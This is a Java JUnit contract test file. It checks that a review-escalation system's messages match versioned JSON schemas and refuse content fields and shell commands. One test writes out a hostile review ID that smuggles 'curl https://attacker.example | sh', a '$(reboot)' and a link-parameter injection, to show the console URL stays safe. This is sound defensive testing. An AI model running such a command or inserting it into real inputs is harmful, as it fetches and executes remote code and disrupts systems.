package dev.secondlook.core.contract;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import com.networknt.schema.Error;
import com.networknt.schema.Schema;
import com.networknt.schema.SchemaRegistry;
import com.networknt.schema.SpecificationVersion;
import dev.secondlook.core.model.Lane;
import dev.secondlook.core.model.Severity;
import dev.secondlook.core.review.ReviewListItem;
import dev.secondlook.core.review.ReviewView;
import dev.secondlook.core.route.Escalation;
import dev.secondlook.core.route.OpenLinks;
import dev.secondlook.core.route.QueueMessage;
import dev.secondlook.core.route.ReviewSummary;
import org.junit.jupiter.api.Test;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** What leaves the system matches its versioned schema: the samples, and what the code actually writes. */
class ContractTest {

    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final ReviewSummary SUMMARY = new ReviewSummary("rev-1", Lane.PRIORITY, Severity.PAGE,
            List.of("secret-leak", "pii-exposure"), "devops.helper", "meta.llama3", "sha256:abc",
            Instant.parse("2026-08-19T06:00:00Z"), Instant.parse("2026-08-19T10:00:00Z"));

    private static Schema schema(String name) throws IOException {
        return SchemaRegistry.withDefaultDialect(SpecificationVersion.DRAFT_2020_12)
                .getSchema(Files.readString(Path.of("../../contracts/" + name + ".schema.json")));
    }

    private static JsonNode sample(String name) throws IOException {
        return MAPPER.readTree(Path.of("../../contracts/" + name + ".sample.json").toFile());
    }

    @Test
    void queueMessage_sampleAndCode_matchV1() throws IOException {
        Schema schema = schema("review-queue-message.v1");
        assertEquals(List.of(), schema.validate(sample("review-queue-message.v1")));
        JsonNode written = MAPPER.valueToTree(QueueMessage.of(SUMMARY));
        assertEquals(List.of(), schema.validate(written));
        ObjectNode leaky = written.deepCopy();
        leaky.put("output", "the model said something");
        assertFalse(schema.validate(leaky).isEmpty(), "the schema refuses content fields");
    }

    @Test
    void escalation_v1Sample_stillMatchesV1() throws IOException {
        assertEquals(List.of(), schema("escalation.v1").validate(sample("escalation.v1")));
    }

    @Test
    void escalation_sampleAndCode_matchV2_andCarryNoTextNorCommand() throws IOException {
        Schema schema = schema("escalation.v2");
        assertEquals(List.of(), schema.validate(sample("escalation.v2")));
        Escalation e = Escalation.of(Escalation.POLICY_PAGE, SUMMARY, "2026-08-19T06:00:01Z",
                new OpenLinks("us-east-1", "secondlook-ReviewTable").forReview("rev-1"));
        List<Error> errors = schema.validate(MAPPER.valueToTree(e));
        assertEquals(List.of(), errors);
        // SNS takes at most 256 KB per message; an escalation stays far below it
        assertTrue(MAPPER.writeValueAsBytes(e).length < 256 * 1024 / 10);
        ObjectNode leaky = MAPPER.valueToTree(e);
        leaky.put("prompt", "customer text");
        assertFalse(schema.validate(leaky).isEmpty());
        ObjectNode command = MAPPER.valueToTree(e);
        command.putObject("open").put("cli", "./secondlook review show rev-1");
        assertFalse(schema.validate(command).isEmpty(), "v2 has no place for a shell command");
    }

    @Test
    void escalation_consoleUrl_keepsAHostileReviewIdInsideTheLink() throws IOException {
        String hostile = "x\"; curl https://attacker.example | sh; #\n$(reboot) &pk=other";
        ReviewSummary r = new ReviewSummary(hostile, Lane.PRIORITY, Severity.PAGE, List.of("secret-leak"), "", "",
                "sha256:abc", Instant.parse("2026-08-19T06:00:00Z"), Instant.parse("2026-08-19T10:00:00Z"));
        Escalation e = Escalation.of(Escalation.POLICY_PAGE, r, "2026-08-19T06:00:01Z",
                new OpenLinks("us-east-1", "secondlook-ReviewTable").forReview(hostile));
        assertEquals(List.of(), schema("escalation.v2").validate(MAPPER.valueToTree(e)));
        assertTrue(e.consoleUrl().matches("https://[A-Za-z0-9._~*%&=?#/+:-]+"), e.consoleUrl());
        assertFalse(e.consoleUrl().contains("&pk=other"), "the id cannot add or replace a link parameter");
    }

    @Test
    void evalCase_v1Sample_stillMatchesV1() throws IOException {
        assertEquals(List.of(), schema("eval-case.v1").validate(sample("eval-case.v1")));
    }

    @Test
    void evalCase_sampleAndCode_matchV2() throws IOException {
        Schema schema = schema("eval-case.v2");
        assertEquals(List.of(), schema.validate(sample("eval-case.v2")));
        dev.secondlook.core.feedback.EvalCase c = MAPPER.treeToValue(sample("eval-case.v2"),
                dev.secondlook.core.feedback.EvalCase.class);
        assertEquals(List.of(), schema.validate(MAPPER.valueToTree(c)));
        ObjectNode broken = MAPPER.valueToTree(c);
        broken.remove("provenance");
        assertFalse(schema.validate(broken).isEmpty());
        ObjectNode unmarked = MAPPER.valueToTree(c);
        unmarked.remove("masking");
        assertFalse(schema.validate(unmarked).isEmpty(), "a v2 case always says what was masked");
    }

    @Test
    void reviewView_sampleAndTypedView_matchV1() throws IOException {
        Schema schema = schema("review-view.v1");
        assertEquals(List.of(), schema.validate(sample("review-view.v1")));
        ReviewView view = MAPPER.treeToValue(sample("review-view.v1"), ReviewView.class);
        JsonNode written = MAPPER.valueToTree(view);
        assertEquals(List.of(), schema.validate(written));
        assertEquals(sample("review-view.v1").toString(), written.toString(),
                "the typed view writes exactly what the contract shows");
        ObjectNode internal = written.deepCopy();
        internal.put("claimReceipt", "AQEB...");
        assertFalse(schema.validate(internal).isEmpty(), "the schema refuses the table's bookkeeping");
    }

    @Test
    void reviewList_sampleAndTypedItems_matchV1_andCarryNoText() throws IOException {
        Schema schema = schema("review-list.v1");
        assertEquals(List.of(), schema.validate(sample("review-list.v1")));
        ReviewListItem item = MAPPER.treeToValue(sample("review-list.v1").get("items").get(0), ReviewListItem.class);
        ObjectNode page = MAPPER.createObjectNode();
        page.set("items", MAPPER.createArrayNode().add(MAPPER.valueToTree(item)));
        page.putNull("next");
        assertEquals(List.of(), schema.validate(page));
        ((ObjectNode) page.get("items").get(0)).put("output", "customer text");
        assertFalse(schema.validate(page).isEmpty(), "a listing line never carries text");
    }

    @Test
    void escalationId_isStablePerReviewAndKind() {
        assertEquals(Escalation.escalationId("rev-1", Escalation.POLICY_PAGE),
                Escalation.escalationId("rev-1", Escalation.POLICY_PAGE));
        assertFalse(Escalation.escalationId("rev-1", Escalation.POLICY_PAGE)
                .equals(Escalation.escalationId("rev-1", Escalation.SLA_BREACH)));
    }
}
